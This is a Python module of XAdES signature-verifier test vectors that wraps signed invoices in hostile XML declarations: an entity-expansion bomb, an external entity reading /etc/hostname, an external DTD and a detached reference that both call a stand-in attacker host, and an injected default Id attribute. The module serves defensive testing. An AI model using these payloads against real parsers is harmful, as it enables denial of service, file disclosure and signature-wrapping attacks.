"""XAdES documents that bring declarations of their own, and references that lead out of them."""

from __future__ import annotations

from itertools import pairwise

from ...content import Content
from ...formats.xades_sign import Detached, XmlPlacement, sign_xades
from ..cms_build import ALICE, DOCUMENT, MADE, case
from ..registry import Case, Group

_group = Group("xades", features=("xades", "certificate-path", "crl", "es256"), twin="enveloped")

_INVOICE = (
    b'<Invoice xmlns="urn:test:invoice" Id="invoice"><Seller>TEST-ONLY seller</Seller>'
    b"<Total>1000</Total></Invoice>"
)
_SECURITY = "XML Signature 1.1, 8.1; XML 1.0, 2.8"


def _declared(declaration: bytes) -> Case:
    """The good document behind a document type declaration."""
    signed = sign_xades(_INVOICE, ALICE, placement=XmlPlacement.ENVELOPED, signing_time=MADE)
    place = signed.index(b"<Invoice")
    return case(signed[:place] + declaration + signed[place:])


@_group.vector(
    _SECURITY,
    "xml.doctype",
    notes="A few lines grow to gigabytes before anything is verified.",
)
def entities_that_multiply() -> Case:
    """Each entity is made of eight of the one before."""
    names = "abcdefghij"
    later = "".join(f'<!ENTITY {name} "{f"&{before};" * 8}">' for before, name in pairwise(names))
    return _declared(f'<!DOCTYPE Invoice [<!ENTITY a "TEST-ONLY">{later}]>'.encode())


@_group.vector(
    _SECURITY,
    "xml.doctype",
    notes="The verifier reads its own files into the document, and shows them.",
)
def entity_from_a_file() -> Case:
    """An entity stands for a file of whoever reads the document."""
    return _declared(b'<!DOCTYPE Invoice [<!ENTITY e SYSTEM "file:///etc/hostname">]>')


@_group.vector(
    _SECURITY,
    "xml.doctype",
    notes="The verifier calls whatever address the message names.",
)
def declaration_from_an_address() -> Case:
    """The document type is declared elsewhere, under an address."""
    return _declared(b'<!DOCTYPE Invoice SYSTEM "https://attacker.test.example/x.dtd">')


@_group.vector(
    _SECURITY,
    "xml.doctype",
    notes="An identifier that nobody signed makes another element the one that is meant.",
)
def attribute_by_default() -> Case:
    """The declaration gives elements an attribute that does not stand there."""
    return _declared(b'<!DOCTYPE Invoice [<!ATTLIST Total Id CDATA "invoice">]>')


@_group.vector(
    "EN 319 102-1, 5.2.7",
    "signature.content_missing",
    twin="detached",
    notes="The verifier calls whatever address the message names.",
)
def reference_to_an_address() -> Case:
    """What is signed lies under an address, and nobody brought it."""
    signed = Detached("https://attacker.test.example/contract.txt", Content.of(DOCUMENT))
    return case(sign_xades(signed, ALICE, placement=XmlPlacement.DETACHED, signing_time=MADE))
